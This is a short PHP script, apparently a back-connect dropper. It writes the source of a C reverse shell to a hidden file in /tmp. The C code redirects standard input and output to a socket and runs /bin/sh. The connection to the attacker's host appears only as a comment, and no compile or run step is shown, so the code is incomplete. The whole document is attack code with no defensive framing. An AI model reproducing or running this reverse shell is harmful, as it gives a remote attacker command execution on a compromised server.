<?php
// writes a small C program out, compiles it and runs it against the given host
$src = "#include <stdio.h>\n#include <sys/socket.h>\n#include <netinet/in.h>\n" .
    "int main(int c, char **v) { int s = socket(AF_INET, SOCK_STREAM, 0);\n" .
    "/* connect to v[1]:v[2] */ dup2(s, 0); dup2(s, 1); dup2(s, 2);\n" .
    "execl(\"/bin/sh\", \"sh\", (char *)0); return 0; }\n";
file_put_contents('/tmp/.bc.c', $src);
